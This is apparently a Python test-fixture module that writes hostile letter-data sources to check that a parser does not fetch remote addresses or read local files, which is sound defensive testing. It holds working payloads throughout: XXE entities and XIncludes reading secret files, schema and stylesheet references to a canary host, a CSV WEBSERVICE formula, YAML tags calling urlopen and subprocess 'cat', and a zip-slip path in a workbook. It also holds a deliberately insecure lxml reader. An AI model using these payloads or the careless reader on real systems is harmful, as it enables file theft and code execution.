"""Sources that would have a reader call out or read files, were it careless (row C1), and readers that are.

``CANARY`` and ``FILES`` are filled in by `tests.reliability.c_canary.Canary.place`.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from pathlib import Path

from lxml import etree

from tests.reliability.c_canary import SECRET, Canary

_NAMES = 'xmlns="http://www.tei-c.org/ns/1.0" xmlns:xi="http://www.w3.org/2001/XInclude"'
_XSI = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'


def _tei(body: str = "", *, before: str = "", attributes: str = "", header: str = "") -> str:
    return f"""<?xml version="1.0" encoding="UTF-8"?>
{before}<TEI {_NAMES} {attributes}>
  <teiHeader><fileDesc><titleStmt><title>Ada Finch to Bo Crane, 1899-01-18</title></titleStmt></fileDesc>
    <profileDesc><correspDesc><correspAction type="sent"><persName>Ada Finch</persName><date when="1899-01-18"/>
      </correspAction><correspAction type="received"><persName>Bo Crane</persName></correspAction>{header}</correspDesc>
    </profileDesc></teiHeader>
  <text><body><p>The geese have gone over the hills again. {body}</p></body></text>
</TEI>
"""


def _cmif(inside: str = "", *, before: str = "", source: str = "CANARY/letters") -> str:
    return f"""<?xml version="1.0" encoding="UTF-8"?>
{before}<TEI {_NAMES}><teiHeader><fileDesc><titleStmt><title>Index</title></titleStmt>
  <publicationStmt><publisher><ref target="CANARY">Nobody</ref></publisher><idno type="url">CANARY/cmif.xml</idno>
  </publicationStmt><sourceDesc><bibl type="online" xml:id="b"><ref target="{source}">Letters</ref></bibl></sourceDesc>
  </fileDesc><profileDesc><correspDesc source="#b" ref="CANARY/1">
    <correspAction type="sent"><persName ref="CANARY/ada">Ada Finch</persName><date when="1899-01-18"/></correspAction>
    <correspAction type="received"><persName ref="FILES/secret.ttl">Bo Crane</persName></correspAction>{inside}
  </correspDesc></profileDesc></teiHeader><text><body><p/></body></text></TEI>
"""


def _doctype(inside: str) -> str:
    return f"<!DOCTYPE TEI {inside}>\n"


_XML = {
    "entity-of-a-file.xml": _tei("&x;", before=_doctype('[<!ENTITY x SYSTEM "FILES/secret.txt">]')),
    "entity-of-an-address.xml": _tei("&x;", before=_doctype('[<!ENTITY x SYSTEM "CANARY/x">]')),
    "entity-with-a-public-name.xml": _tei("&x;", before=_doctype('[<!ENTITY x PUBLIC "-//x" "FILES/secret.txt">]')),
    "entity-in-a-note.xml": _cmif("<note>&x;</note>", before=_doctype('[<!ENTITY x SYSTEM "FILES/secret.txt">]')),
    "parameter-entity.xml": _tei("&stolen;", before=_doctype('[<!ENTITY % p SYSTEM "FILES/secret.dtd"> %p;]')),
    "parameter-entity-of-an-address.xml": _tei(before=_doctype('[<!ENTITY % p SYSTEM "CANARY/p"> %p;]')),
    "document-type-of-a-file.xml": _tei("&stolen;", before=_doctype('SYSTEM "FILES/secret.dtd"')),
    "document-type-of-an-address.xml": _tei(before=_doctype('SYSTEM "CANARY/tei.dtd"')),
    "document-type-with-a-public-name.xml": _tei(before=_doctype('PUBLIC "-//TEI//DTD" "CANARY/tei.dtd"')),
    "document-type-in-small-letters.xml": _tei("&x;", before='<!doctype TEI [<!ENTITY x SYSTEM "FILES/secret.txt">]>'),
    "notation.xml": _tei(before=_doctype('[<!NOTATION n SYSTEM "CANARY/n"><!ENTITY x SYSTEM "CANARY/x" NDATA n>]')),
    "include-xml.xml": _tei('<xi:include href="FILES/secret.xml"/>'),
    "include-text.xml": _tei('<xi:include href="FILES/secret.txt" parse="text"/>'),
    "include-an-address.xml": _tei('<xi:include href="CANARY/x" parse="text"/>'),
    "include-or-fall-back.xml": _tei(
        '<xi:include href="CANARY/x"><xi:fallback><xi:include href="FILES/secret.txt" parse="text"/></xi:fallback>'
        "</xi:include>"
    ),
    "include-in-the-header.xml": _tei(header='<note><xi:include href="FILES/secret.txt" parse="text"/></note>'),
    "include-in-an-index.xml": _cmif('<note><xi:include href="FILES/secret.xml"/></note>'),
    "schema.xml": _tei(attributes=f'{_XSI} xsi:schemaLocation="http://www.tei-c.org/ns/1.0 CANARY/tei.xsd"'),
    "schema-without-namespace.xml": _tei(attributes=f'{_XSI} xsi:noNamespaceSchemaLocation="FILES/secret.xml"'),
    "model.xml": _tei(before='<?xml-model href="CANARY/tei.rng"?><?oxygen RNGSchema="CANARY/tei.rnc"?>\n'),
    "stylesheet.xml": _tei(before='<?xml-stylesheet type="text/xsl" href="FILES/secret.xml"?>\n'),
    "base.xml": _tei('<ref target="x">x</ref><persName ref="#a">Bo Crane</persName>', attributes='xml:base="CANARY/"'),
    "links.xml": _tei('<ref target="FILES/secret.txt">x</ref><graphic url="CANARY/x.png"/><ptr target="CANARY"/>'),
    "index.xml": _cmif(source="FILES/secret.txt"),
    "prefixes.xml": _cmif('<note><ref type="hasTextBase" target="CANARY/text"/></note>'),
    "rdf.rdf": '<!DOCTYPE r [<!ENTITY x SYSTEM "FILES/secret.txt">]><rdf:RDF '
    'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="e:a">&x;</rdf:Description>'
    "</rdf:RDF>",
}

_TEXTS = {
    "links.csv": "sender,addressee,date,sender id,note\n"
    'Ada Finch,Bo Crane,1899-01-18,FILES/secret.txt,"=WEBSERVICE(""CANARY/x"")"\n'
    "Bo Crane,Ada Finch,1899-01-19,CANARY/bo,='FILES/secret.csv'#$Sheet1.A1\n",
    "context.jsonld": '{"@context": "CANARY/context.jsonld", "@id": "http://example.org/a", "sender": "Ada Finch"}',
    "context-of-a-file.jsonld": '{"@context": "FILES/secret.jsonld", "@id": "http://example.org/a", "stolen": "x"}',
    "context-of-a-context.jsonld": '{"@context": {"@import": "CANARY/context.jsonld", "@version": 1.1}}',
    "imports.ttl": "<http://example.org/> <http://www.w3.org/2002/07/owl#imports> <CANARY/o>, <FILES/secret.ttl> .",
    "shapes.ttl": "@prefix sh: <http://www.w3.org/ns/shacl#> . <http://example.org/> sh:shapesGraph <CANARY/s> ; "
    "<http://www.w3.org/2002/07/owl#imports> <FILES/secret.ttl> .",
    "letter.txt": "Ada Finch to Bo Crane\n\nAda Finch - Bo Crane\n\nNovember 12, 1919\n\nLetter\n\n"
    "See FILES/secret.txt and CANARY/x, {{include FILES/secret.txt}} and !include FILES/secret.txt.\n\nAda Finch.\n",
}

_YAML = {
    "python-call": 'document: !!python/object/apply:urllib.request.urlopen ["CANARY/x"]\n',
    "python-read": 'document: !!python/object/apply:subprocess.check_output [["cat", "PATH/secret.txt"]]\n',
    "include": "document: !include FILES/secret.txt\n",
}


def _workbook(canary: Canary) -> bytes:
    """A workbook with entities, links outside, and a part whose name leads out of the archive."""
    content = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
    relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    links = (
        f'<Relationship Id="r1" Type="{relation}/externalLinkPath" Target="FILES/secret.csv" TargetMode="External"/>'
    )
    parts = {
        "[Content_Types].xml": content,
        "xl/workbook.xml": '<!DOCTYPE w [<!ENTITY x SYSTEM "FILES/secret.txt">]><workbook>&x;</workbook>',
        "xl/worksheets/sheet1.xml": '<!DOCTYPE w [<!ENTITY % p SYSTEM "CANARY/p"> %p;]><worksheet/>',
        "xl/externalLinks/_rels/externalLink1.xml.rels": f"<Relationships>{links}</Relationships>",
        "../../../out.txt": SECRET,
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, text in parts.items():
            archive.writestr(name, canary.place(text))
    return buffer.getvalue()


def write_sources(folder: Path, canary: Canary) -> list[Path]:
    """Write every hostile source into a folder; each has its own name."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for name, text in {**_XML, **_TEXTS}.items():
        paths.append(folder / name)
        paths[-1].write_text(canary.place(text), encoding="utf-8")
    paths.append(folder / "workbook.xlsx")
    paths[-1].write_bytes(_workbook(canary))
    return paths


def write_curations(folder: Path, canary: Canary) -> list[Path]:
    """Write decisions in YAML that would run programs, were they read by a careless reader."""
    files = canary.files.removeprefix("file://")
    paths = []
    for name, text in _YAML.items():
        paths.append(folder / f"{name}.txt.curation.yaml")
        paths[-1].write_text(canary.place(text.replace("PATH", files)), encoding="utf-8")
    return paths


def read_carelessly(path: Path) -> str:
    """Read a hostile source as many programs do: what comes back, as text.

    Every switch that `kg.sources.xml.parsing` sets is set the other way, and inclusions are processed.
    """
    parser = etree.XMLParser(
        resolve_entities=True, no_network=False, load_dtd=True, dtd_validation=False, attribute_defaults=True
    )
    tree = etree.parse(path, parser)
    tree.xinclude()
    return str(etree.tostring(tree, encoding="unicode"))


Reader = Callable[[Path], str]


def reached(paths: list[Path], canary: Canary, read: Reader = read_carelessly) -> list[str]:
    """Names of the sources by which a reader reaches the canary or its files."""
    found = []
    for path in paths:
        before = canary.connections
        try:
            text = read(path)
        except (etree.LxmlError, OSError, ValueError):
            text = ""
        if SECRET in text or canary.connections > before:
            found.append(path.name)
    return found
